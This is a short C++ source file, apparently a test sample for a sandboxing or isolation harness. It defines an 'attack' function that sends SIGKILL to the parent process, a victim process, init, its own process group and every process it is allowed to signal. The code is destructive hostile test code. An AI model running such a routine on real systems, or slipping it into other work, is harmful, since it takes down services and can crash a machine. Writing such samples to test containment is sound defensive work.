// Kills all processes that it may.
#include <unistd.h>

#include <csignal>
#include <string>

#include "labkit/sqlite/sqlite.hpp"

static void attack(sqlite::Connection&, const std::string&) {
    kill(getppid(), SIGKILL);
    kill(VICTIM_PROCESS, SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
